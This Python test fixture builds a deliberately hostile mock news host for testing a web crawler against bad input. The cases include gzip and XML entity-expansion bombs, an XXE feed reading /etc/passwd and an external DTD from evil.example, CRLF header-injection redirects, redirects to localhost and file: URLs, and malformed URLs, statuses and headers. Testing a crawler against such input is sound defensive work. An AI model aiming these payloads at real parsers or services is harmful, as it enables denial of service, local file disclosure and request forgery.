"""The sample newsroom with a host beside it that does everything wrong, for tests of bad input.

Each case is an address of the outlet Xinhua at bad.xinhuanet.com (or at a host of its own where robots.txt is the
case), linked from the newsroom's list of military news. The other pages of the newsroom are the healthy ones.
"""

from __future__ import annotations

import gzip
import socket
import struct
import time
import zlib
from collections.abc import Callable
from functools import cache
from urllib.parse import urlsplit

from samples.newsroom import SAMPLES, Entry, Handler

BAD = "http://bad.xinhuanet.com"
START = "https://www.news.cn/milpro/"
GOOD_PAGE = SAMPLES / "pages/news.xinhuanet.com/english/2015-08/20/c_134538102.htm"
GOOD_TITLE = b"Feature: A library"
MEGABYTE = 1_000_000
HTML = "Content-Type: text/html"

Headers = tuple[str, ...]
Case = Callable[["HostileHandler"], None]
CASES: dict[str, Case] = {}  # address → how it is answered
LINKED: list[str] = []  # addresses that the start list names


def report(name: str, host: str = "bad.xinhuanet.com") -> str:
    return f"http://{host}/{name}/2024-01/02/c_1.htm"


def listing(name: str) -> str:
    return f"{BAD}/{name}/ds_1.json"


@cache
def good() -> bytes:
    """A page that the layouts read; a comment makes each a payload of its own."""
    return GOOD_PAGE.read_bytes()


def page(name: str) -> bytes:
    return good() + f"<!-- {name} -->".encode()


def case(url: str, linked: bool = True) -> Callable[[Case], Case]:
    """Answer at `url` by the function; `linked` puts it on the start list."""

    def add(answer: Case) -> Case:
        CASES[url] = answer
        if linked:
            LINKED.append(url)
        return answer

    return add


def fixed(
    url: str, body: Callable[[], bytes] | bytes, *headers: str, status: str = "200 OK", linked: bool = True
) -> None:
    """An answer that is the same each time, with a right Content-Length."""

    @case(url, linked)
    def answer(handler: HostileHandler) -> None:
        data = body() if callable(body) else body
        handler.raw(status, (*(headers or (HTML,)), f"Content-Length: {len(data)}"), data)


class HostileHandler(Handler):
    """Answers the cases, and everything else as the newsroom does."""

    def do_GET(self) -> None:
        url = self._url()
        answer = CASES.get(url)
        if answer is not None:
            self.newsroom.log.append(Entry(self.command, url, 0, dict(self.headers.items())))
            answer(self)
        elif url == START:
            self._send(
                url, 200, {"Content-Type": "text/html; charset=utf-8"}, start_list(self.newsroom.answer(url).body)
            )
        elif (urlsplit(url).hostname or "").endswith(".xinhuanet.com") and url.endswith("/robots.txt"):
            self._send(url, 404, {}, b"")
        else:
            super().do_GET()

    do_HEAD = do_GET

    def raw(self, status: str, headers: Headers, body: bytes) -> None:
        """Exactly these bytes; the connection is closed behind them."""
        head = "".join(f"{line}\r\n" for line in (f"HTTP/1.1 {status}", *headers, "Connection: close", ""))
        self.wfile.write(head.encode("utf-8") + body)
        self.close_connection = True

    def reset(self) -> None:
        self.wfile.flush()
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.shutdown(socket.SHUT_RD)
        self.connection.close()
        self.close_connection = True

    def drip(self, headers: Headers, piece: bytes) -> None:
        """A response that never ends, until the client goes away."""
        self.raw("200 OK", headers, b"")
        for _ in range(200):
            try:
                self.wfile.write(piece)
                self.wfile.flush()
            except OSError:
                return
            time.sleep(0.1)


def start_list(body: bytes) -> bytes:
    anchors = "".join(f'<a href="{url}">{url}</a>\n' for url in LINKED).encode()
    return body.replace(b"</body>", anchors + b"</body>") if b"</body>" in body else body + anchors


# Bodies that are not what they say


@cache
def bomb() -> bytes:
    """70 MB in 70 kB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    return b"".join(packer.compress(b"<p>" + bytes(MEGABYTE)) for _ in range(70)) + packer.flush()


GZIP = (HTML, "Content-Encoding: gzip")
fixed(report("gzip-bomb"), bomb, *GZIP)
fixed(report("gzip-in-gzip-bomb"), lambda: gzip.compress(bomb()), HTML, "Content-Encoding: gzip, gzip")
fixed(listing("gzip-bomb-list"), bomb, *GZIP)
fixed(report("gzip-cut"), lambda: gzip.compress(page("gzip-cut"))[:-3000], *GZIP)
fixed(report("gzip-cut-late"), lambda: gzip.compress(page("gzip-cut-late"))[:-200], *GZIP)
fixed(report("gzip-no-checksum"), lambda: gzip.compress(page("gzip-no-checksum"))[:-4], *GZIP)
fixed(report("same-bytes-gzip"), lambda: gzip.compress(good(), mtime=0), *GZIP)
fixed(report("same-bytes-plain"), lambda: gzip.compress(good(), mtime=0), HTML)
fixed(report("gzip-no-gzip"), lambda: page("gzip-no-gzip"), *GZIP)
fixed(report("coding-unknown"), lambda: page("coding-unknown"), HTML, "Content-Encoding: utf-8")
fixed(report("brotli-lie"), lambda: page("brotli-lie"), HTML, "Content-Encoding: br")
fixed(report("empty"), b"")
fixed(report("binary"), bytes(range(256)) * 400)
fixed(report("png-as-html"), b"\x89PNG\r\n\x1a\n" + bytes(5000))
fixed(report("ten-megabytes"), lambda: page("ten") + b"<p>One more paragraph below the page.</p>\n" * (MEGABYTE // 4))
fixed(report("deep"), lambda: good() + b"<div>" * 100_000)
fixed(report("deep-inside"), lambda: good().replace(b"<p>", b"<div>" * 100_000 + b"<p>", 1))
fixed(report("nul-bytes"), lambda: page("nul").replace(b"</p>", b"\0</p>"))
fixed(report("bad-utf-8"), lambda: page("bad-utf-8").replace(b"</p>", b"\xff\xfe\xc3</p>"))
fixed(report("charset-lie"), lambda: page("charset-lie"), "Content-Type: text/html; charset=utf-16")
fixed(report("charset-nonsense"), lambda: page("charset-nonsense"), "Content-Type: text/html; charset=\xff\x01;;=")
fixed(report("long-title"), lambda: page("long-title").replace(GOOD_TITLE, b"long " * (MEGABYTE // 5) + GOOD_TITLE))
fixed(report("year-1"), lambda: page("year-1").replace(b"2015-08-20 10:12:33", b"0001-01-01 00:00:00"))
fixed(report("year-9999"), lambda: page("year-9999").replace(b"2015-08-20 10:12:33", b"9999-12-31 23:59:59"))
fixed(
    report("surrogate"),
    lambda: page("surrogate").replace(GOOD_TITLE, b"&#xD83D; &#55357; \xed\xa0\xbd " + GOOD_TITLE),
)
fixed(report("type-pdf"), lambda: page("type-pdf"), "Content-Type: application/pdf")
fixed(report("type-plain"), lambda: page("type-plain"), "Content-Type: text/plain")
fixed(report("set-cookie"), lambda: page("set-cookie"), HTML, "Set-Cookie: id=hostile; Domain=xinhuanet.com; Path=/")
fixed(report("header-of-10-kb"), lambda: page("header"), HTML, "X-Long: " + "x" * 10_000, 'ETag: "a\x01b\xe9"')
fixed(report("status-999"), b"", status="999 Odd")
fixed(report("status-huge"), lambda: page("huge"), status="99999999999999999999 Huge")
fixed(report("status-20"), lambda: page("status-20"), status="20 Short")
fixed(report("status-0"), lambda: page("status-0"), status="000 None")
fixed(report("header-too-long"), lambda: page("header-too-long"), HTML, "X-Long: " + "x" * MEGABYTE)
fixed(report("many-headers"), lambda: page("many-headers"), HTML, *(f"X-{number}: y" for number in range(20_000)))


@case(report("length-too-long"))
def _length_too_long(handler: HostileHandler) -> None:
    body = page("length-too-long")
    handler.raw("200 OK", (HTML, f"Content-Length: {len(body) + 500}"), body)


@case(report("chunks-without-end"))
def _chunks_without_end(handler: HostileHandler) -> None:
    body = page("chunks")
    handler.raw("200 OK", (HTML, "Transfer-Encoding: chunked"), b"%x\r\n%s\r\n" % (len(body), body))


@case(report("never-ends"))
def _never_ends(handler: HostileHandler) -> None:
    handler.drip((HTML,), b"<p>more</p>")


@case(report("reset"))
def _reset(handler: HostileHandler) -> None:
    handler.raw("200 OK", (HTML, "Content-Length: 50000"), b"<html>")
    handler.reset()


@case(report("no-http"))
def _no_http(handler: HostileHandler) -> None:
    handler.wfile.write(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")
    handler.close_connection = True


@case(report("too-large"))
def _too_large(handler: HostileHandler) -> None:
    handler.raw("200 OK", (HTML, "Content-Length: 99000000000"), b"<html>")


@case(report("later"))
def _later(handler: HostileHandler) -> None:
    """429, and then the page."""
    body = page("later")
    if sum(entry.url == report("later") for entry in handler.newsroom.log) > 1:
        handler.raw("200 OK", (HTML, f"Content-Length: {len(body)}"), body)
    else:
        handler.raw("429 Too Many Requests", ("Retry-After: 1", "Content-Length: 0"), b"")


fixed(report("always-429"), b"", "Retry-After: 1", status="429 Too Many Requests")
fixed(report("retry-after-nonsense"), b"", "Retry-After: \u0663 years", status="503 Service Unavailable")


# Lists

fixed(listing("not-json"), b'{"datasource": [{"title": "cut in the mid', "Content-Type: application/json")
fixed(listing("json-other"), b'{"datasource": {"title": 7}}', "Content-Type: application/json")
fixed(listing("json-arrays"), lambda: b"[" * 25_000_000 + b"]" * 25_000_000, "Content-Type: application/json")
fixed(
    listing("json-deep"),
    lambda: b'{"datasource":' + b"[" * 2_000_000 + b"]" * 2_000_000 + b"}",
    "Content-Type: application/json",
)
fixed(
    listing("json-odd"),
    b'{"datasource": [7, null, {"publishUrl": 5, "title": {"a": []}}, {"publishUrl": "http://[bad", "title": "x"},'
    b'{"publishUrl": "'
    + report("from-json").encode()
    + b'", "title": "<b>odd</b> \\ud83d", "publishTime": "9999-99-99 99:99"},'
    b'{"linkUrls": "text"}, {"linkUrls": [{"linkUrl": ["a"]}]}, {"linkUrls": 7}]}',
    "Content-Type: application/json",
)
fixed(report("from-json"), lambda: page("from-json"), linked=False)

_BOMB = "<!DOCTYPE rss [<!ENTITY a0 'boom'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)
)  # a9 is four gigabytes
_RSS = "<rss version='2.0'><channel><title>x</title>{}</channel></rss>"


def _item(name: str, title: str) -> str:
    return f"<item><title>{title}</title><link>{report(name)}</link></item>"


fixed(listing("feed-bomb"), (_BOMB + "]>" + _RSS.format(_item("from-feed", "&a9;"))).encode(), "Content-Type: text/xml")
fixed(report("from-feed"), lambda: page("from-feed"), linked=False)
fixed(
    listing("feed-external"),
    (
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://evil.example/x.dtd'> %y;]>"
        + _RSS.format(_item("from-external", "secret &x;"))
    ).encode(),
    "Content-Type: text/xml",
)
fixed(report("from-external"), lambda: page("from-external"), linked=False)
fixed(listing("feed-cut"), (_RSS.partition("{")[0] + _item("from-cut-feed", "cut & bare") + "<item><tit").encode())
fixed(report("from-cut-feed"), lambda: page("from-cut-feed"), linked=False)
_SITEMAP = "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>{}</urlset>"
fixed(
    listing("sitemap-bomb"),
    (_BOMB.replace("rss", "urlset") + "]>" + _SITEMAP.format("<url><loc>&a9;</loc></url>")).encode(),
    "Content-Type: application/xml",
)
fixed(
    listing("sitemap-odd"),
    _SITEMAP.format(
        f"<url><loc>http://[bad</loc></url><url><loc>{report('from-sitemap')}</loc><lastmod>yesterday</lastmod></url>"
        "<url></url><url><loc></loc></url>"
    ).encode(),
    "Content-Type: application/xml",
)
fixed(report("from-sitemap"), lambda: page("from-sitemap"), linked=False)
fixed(listing("deep-list"), lambda: b"<html>" + b"<div>" * 100_000 + f'<a href="{report("from-deep")}">x</a>'.encode())
fixed(report("from-deep"), lambda: page("from-deep"), linked=False)
fixed(
    listing("base-javascript"),
    b"<html><base href='javascript:alert(1)//'><a href='/from-base/2024-01/02/c_1.htm'>relative</a>",
)
fixed(report("from-base"), lambda: page("from-base"), linked=False)
fixed(listing("base-broken"), b"<html><base href='http://[x'><a href='/from-base-2/2024-01/02/c_1.htm'>relative</a>")
fixed(report("from-base-2"), lambda: page("from-base-2"), linked=False)
fixed(listing("empty-list"), b"")
fixed(listing("binary-list"), bytes(range(256)) * 100)

# Links that are odd, and how often their address may be asked for

ODD_LINKS = (
    f"{BAD}/odd-\ttab/2024-01/02/c_1.htm",
    f"  {BAD}/odd-spaces around/2024-01/02/c_1.htm  ",
    f"{BAD}/odd-\x01control\x7f/2024-01/02/c_1.htm",
    f"{BAD}/odd-新闻/2024-01/02/c_1.htm",
    "http://新闻.xinhuanet.com/odd-host/2024-01/02/c_1.htm",
    "http://user:secret@bad.xinhuanet.com/odd-userinfo/2024-01/02/c_1.htm",
    "http://www.xinhuanet.com@evil.example/odd-other-host/2024-01/02/c_1.htm",
    f"{BAD}/odd-long/{'x' * 100_000}/2024-01/02/c_1.htm",
    f"http://{'x' * 70}.xinhuanet.com/odd-long-label/2024-01/02/c_1.htm",
    "http://a..xinhuanet.com/odd-empty-label/2024-01/02/c_1.htm",
    "http://bad.xinhuanet.com:99999/odd-port/2024-01/02/c_1.htm",
    "http://bad.xinhuanet.com:eighty/odd-port-name/2024-01/02/c_1.htm",
    "http://[::1/odd-ipv6/2024-01/02/c_1.htm",
    "http://[fe80::1%25eth0].xinhuanet.com/odd-zone/2024-01/02/c_1.htm",
    "http:///odd-no-host/2024-01/02/c_1.htm",
    "http:odd-no-slashes/2024-01/02/c_1.htm",
    "javascript:alert(1)/2024-01/02/c_1.htm",
    "data:text/html,2024-01/02/c_1.htm",
    "file:///odd-file/2024-01/02/c_1.htm",
    f"{BAD}/odd-percent%/%zz%00%0d%0aX-Injected:%201/2024-01/02/c_1.htm",
    f"{BAD}/odd-query/2024-01/02/c_1.htm?a=%ff&b=\ud7ff&;=&&",
)
fixed(
    listing("odd-links"),
    b"<html><meta charset=utf-8>" + "".join(f'<a href="{url}">odd</a>' for url in ODD_LINKS).encode(),
    "Content-Type: text/html; charset=utf-8",
)
ONE_PAGE = (
    f"{BAD}/once/2024-01/02/c_1.htm",
    f"{BAD}/once/2024-01/02/c_1.htm#comments",
    f"{BAD}/once/2024-01/02/c_1.htm?utm_source=x&utm_medium=y",
    f"{BAD}/once/2024-01/02/c_1.htm?from=timeline",
    "http://BAD.XinhuaNet.com/once/2024-01/02/c_1.htm",
    "http://bad.xinhuanet.com:80/once/2024-01/02/c_1.htm",
    "https://bad.xinhuanet.com/once/2024-01/02/c_1.htm",
    "http://bad.xinhuanet.com./once/2024-01/02/c_1.htm",
    f"{BAD}//once//2024-01/02/c_1.htm",
    f"{BAD}/x/../once/./2024-01/02/c_1.htm",
    f"{BAD}/%6Fnce/2024-01/02/c_1.htm",
    "//bad.xinhuanet.com/once/2024-01/02/c_1.htm",
    "/once/2024-01/02/c_1.htm?",
    "../once/2024-01/02/c_1.htm",
    "http://x:y@bad.xinhuanet.com/once/2024-01/02/c_1.htm",
)
fixed(listing("one-page"), b"<html>" + "".join(f'<a href="{url}">once</a>' for url in ONE_PAGE).encode())
fixed(report("once"), lambda: page("once"), linked=False)


# More links than a crawl may follow, on a list of the outlet TNW

FLOOD = "https://thenextweb.com/latest"
fixed(
    FLOOD,
    b"<html>" + b"".join(b'<a href="/news/flood-%d">One of many</a>' % number for number in range(10_000)),
    linked=False,
)

# Redirects


def redirect(name: str, target: str, status: str = "302 Found", linked: bool = True) -> None:
    fixed(report(name), b"", f"Location: {target}", status=status, linked=linked)


redirect("loop-a", report("loop-b"))
redirect("loop-b", report("loop-a"), linked=False)
redirect("loop-self", report("loop-self"))
redirect("to-file", "file:///etc/passwd")
redirect("to-javascript", "javascript:alert(1)")
redirect("to-data", "data:text/html,<h1>x</h1>")
redirect("to-other-host", "http://evil.example/report/2024-01/02/c_1.htm")
redirect("to-this-machine", "http://127.0.0.1:9/admin/2024-01/02/c_1.htm")
redirect("to-broken", "http://[::1/2024-01/02/c_1.htm")
redirect("to-bad-port", "http://bad.xinhuanet.com:99999/2024-01/02/c_1.htm")
redirect("to-long", f"{BAD}/long/{'x' * 14_000}/2024-01/02/c_1.htm")
redirect("to-unicode", "http://新闻..xinhuanet.com/2024-01/02/c_1.htm")
redirect("to-injection", f"{report('injected')}\r\nX-Injected: yes\r\nSet-Cookie: a=b")
redirect("to-encoded-injection", f"{BAD}/%0d%0aSet-Cookie:x/2024-01/02/c_1.htm")
redirect("to-nothing", "")
fixed(report("injected"), lambda: page("injected"), linked=False)
fixed(report("redirect-without-target"), b"", status="301 Moved Permanently")


# robots.txt

ROBOTS = {
    "robots-large": lambda: (
        b"User-agent: *\nDisallow: /private/\n" + b"Disallow: /nothing/here/*/x$\n" * (MEGABYTE // 3)
    ),
    "robots-binary": lambda: bytes(range(256)) * 1000,
    "robots-html": lambda: good(),
    "robots-empty": lambda: b"",
}
for _name, _body in ROBOTS.items():
    fixed(f"http://{_name}.xinhuanet.com/robots.txt", _body, "Content-Type: text/plain", linked=False)
fixed(
    "http://robots-bomb.xinhuanet.com/robots.txt",
    bomb,
    "Content-Type: text/plain",
    "Content-Encoding: gzip",
    linked=False,
)
fixed("http://robots-500.xinhuanet.com/robots.txt", b"", status="500 Internal Server Error", linked=False)
fixed(
    "http://robots-elsewhere.xinhuanet.com/robots.txt",
    b"",
    "Location: http://evil.example/",
    status="302 Found",
    linked=False,
)
fixed(
    "http://robots-loop.xinhuanet.com/robots.txt", b"", "Location: http://robots-loop.xinhuanet.com/robots.txt",
    status="302 Found", linked=False,
)  # fmt: skip


@case("http://robots-slow.xinhuanet.com/robots.txt", linked=False)
def _robots_slow(handler: HostileHandler) -> None:
    handler.drip(("Content-Type: text/plain",), b"#")


ROBOTS_HOSTS = (*ROBOTS, "robots-bomb", "robots-500", "robots-elsewhere", "robots-loop", "robots-slow")
for _name in ROBOTS_HOSTS:
    fixed(report("page", f"{_name}.xinhuanet.com"), lambda name=_name: page(name))
